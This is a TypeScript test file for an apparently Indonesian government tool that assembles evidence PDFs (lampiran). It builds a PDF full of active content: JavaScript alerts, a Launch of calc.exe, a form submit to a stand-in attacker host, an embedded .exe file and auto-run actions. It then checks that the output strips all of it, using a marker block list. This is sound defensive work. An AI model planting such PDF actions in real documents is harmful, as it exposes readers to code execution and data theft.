/**
 * Active content in an OPD's PDF (scripts, launch and submit actions, remote go-tos, embedded files, rich media)
 * never reaches the official lampiran; jumps inside the document stay, web links only when the config allows.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PDFDocument, PDFName, PDFString, StandardFonts, type PDFDict, type PDFRef } from '@cantoo/pdf-lib';
import { assembleLampiran } from '../../src/render/lampiran/assemble.ts';
import { planLampiran } from '../../src/render/lampiran/plan.ts';
import { PAPERS } from '../../src/render/model/common.ts';
import { loadPack } from '../../src/instrument/registry.ts';
import { sha256Of } from '../../src/store/archive.ts';
import type { DocumentView } from '../../src/types/state.ts';
import { pageTexts, qpdfCheck } from './pdf-tools.ts';

/** Markers that appear in the crafted PDF only inside active content. */
const ACTIVE_MARKERS = [
  '/JavaScript', '/JS', '/Launch', '/SubmitForm', '/ImportData', '/GoToR', '/GoToE', '/EmbeddedFile', '/FileAttachment',
  '/RichMedia', '/OpenAction', '/AA', 'app.alert', 'calc.exe', 'lain.pdf', 'berkas-tersembunyi', 'RAHASIA-SISIPAN',
];

/** A PDF carrying every kind of active content the issue names, plus an internal jump and a web link. */
async function craftActivePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const ctx = doc.context;
  const pages = [doc.addPage([595, 842]), doc.addPage([595, 842])];
  pages.forEach((p, i) => p.drawText(`Dokumen dengan isi aktif, halaman ${i + 1}`, { x: 56, y: 780, size: 12, font }));
  const js = (code: string) => ctx.obj({ S: 'JavaScript', JS: PDFString.of(code) });
  const link = (n: number, action: PDFDict | PDFRef) =>
    ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [56, 700 - n * 30, 300, 720 - n * 30], Border: [0, 0, 0], A: action }));
  const embedded = ctx.register(ctx.stream('RAHASIA-SISIPAN', { Type: 'EmbeddedFile' }));
  const fileSpec = ctx.obj({ Type: 'Filespec', F: PDFString.of('berkas-tersembunyi.exe'), EF: { F: embedded } });
  const uriThenScript = ctx.obj({ S: 'URI', URI: PDFString.of('https://rantai.example.go.id/'), Next: js("app.alert('rantai')") });
  const annots = [
    link(0, ctx.register(js("app.alert('tautan')"))),
    link(1, ctx.obj({ S: 'Launch', F: PDFString.of('calc.exe') })),
    link(2, ctx.obj({ S: 'SubmitForm', F: ctx.obj({ FS: 'URL', F: PDFString.of('https://penyerang.example/') }) })),
    link(3, ctx.obj({ S: 'ImportData', F: PDFString.of('data.fdf') })),
    link(4, ctx.obj({ S: 'GoToR', F: PDFString.of('lain.pdf'), D: [0, 'Fit'] })),
    link(5, ctx.obj({ S: 'GoToE', T: { R: 'C', N: PDFString.of('x') }, D: [0, 'Fit'] })),
    link(6, ctx.obj({ S: 'URI', URI: PDFString.of('https://situs.example.go.id/') })),
    link(7, ctx.obj({ S: 'GoTo', D: [pages[1]!.ref, 'Fit'] })),
    link(8, uriThenScript),
    ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [400, 700, 420, 720], FS: fileSpec, Contents: PDFString.of('lampiran') })),
    ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [400, 600, 500, 700] })),
    ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Widget', FT: 'Btn', Rect: [400, 500, 500, 520], T: PDFString.of('tombol'), AA: { U: js("app.alert('widget')") } })),
  ];
  pages[0]!.node.set(PDFName.of('Annots'), ctx.obj(annots));
  pages[0]!.node.set(PDFName.of('AA'), ctx.obj({ O: js("app.alert('halaman dibuka')"), C: ctx.obj({ S: 'Launch', F: PDFString.of('calc.exe') }) }));
  doc.catalog.set(PDFName.of('OpenAction'), js("app.alert('dokumen dibuka')"));
  doc.catalog.set(PDFName.of('Names'), ctx.obj({
    JavaScript: { Names: [PDFString.of('awal'), js("app.alert('nama')")] },
    EmbeddedFiles: { Names: [PDFString.of('berkas-tersembunyi.exe'), fileSpec] },
  }));
  return doc.save({ useObjectStreams: false });
}

/** The lampiran decompressed by qpdf (every object in plain text), to look for what must not be there. */
function plainObjects(file: string): string {
  return execFileSync('qpdf', ['--qdf', '--object-streams=disable', file, '-'], { maxBuffer: 64 * 1024 * 1024 }).toString('latin1');
}

function linkTargets(text: string): { uris: string[]; gotos: number } {
  const uris = [...text.matchAll(/\/URI \((https?:[^)]*)\)/g)].map((m) => m[1]!);
  return { uris: uris.sort(), gotos: (text.match(/\/S \/GoTo\b/g) ?? []).length };
}

describe('lampiran from a PDF with active content', () => {
  let dir: string;
  const files = new Map<boolean, string>();

  beforeAll(async () => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'eviden-aktif-'));
    const bytes = await craftActivePdf();
    // The crafted file really carries the active content (so the test can fail).
    const source = path.join(dir, 'sumber.pdf');
    writeFileSync(source, bytes);
    const raw = plainObjects(source);
    for (const marker of ACTIVE_MARKERS.filter((m) => m !== '/RichMedia' || raw.includes(m))) expect(raw, marker).toContain(marker);

    const sha = sha256Of(bytes);
    const view: DocumentView = {
      doc: {
        sha256: sha, size: bytes.length, type: 'pdf', status: 'ok', message: '', pages: 2, ocrPages: 0, encrypted: false,
        archivePath: 'archive/x.pdf', firstSeen: '2026-11-01T08:00:00.000Z', extractedAt: '2026-11-01T08:00:05.000Z',
      },
      locations: [],
      classification: null,
      archiveFile: source,
      path: 'BagianHukum/aktif.pdf',
      opd: 'HUKUM',
    };
    const input = {
      instrument: loadPack('spbe-2020').instrument,
      evidence: new Map([[10, [sha]]]),
      documents: new Map([[sha, view]]),
      per: 'indikator' as const,
      maxBytes: 10_000_000,
    };
    expect(planLampiran(input).bundles).toHaveLength(1);
    for (const webLinks of [false, true]) {
      const ctx = { instansi: 'Pemerintah Kabupaten Uji', tahun: 2026, program: 'SPBE', paper: PAPERS.A4, today: '2026-11-29', webLinks };
      await assembleLampiran(input, ctx, {
        onPart({ part, bytes: out }) {
          const file = path.join(dir, `${webLinks ? 'web' : 'tanpa'}-${part.fileName}`);
          writeFileSync(file, out);
          files.set(webLinks, file);
        },
      });
    }
  });

  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('keeps the pages and writes a valid PDF', () => {
    for (const file of files.values()) {
      expect(qpdfCheck(file).status, file).toBe(0);
      expect(pageTexts(file).join('\n')).toContain('Dokumen dengan isi aktif, halaman 2');
    }
  });

  it('leaves no script, launch, submit, import, remote go-to, embedded file or rich media in the file', () => {
    for (const file of files.values()) {
      const text = plainObjects(file);
      for (const marker of ACTIVE_MARKERS) expect(text, `${marker} in ${path.basename(file)}`).not.toContain(marker);
    }
  });

  it('keeps the jump inside the document; drops web links unless laporan.tautanWeb allows them', () => {
    expect(linkTargets(plainObjects(files.get(false)!))).toEqual({ uris: [], gotos: 1 });
    // A web link chained to a script is dropped even when web links are allowed.
    expect(linkTargets(plainObjects(files.get(true)!))).toEqual({ uris: ['https://situs.example.go.id/'], gotos: 1 });
  });
});
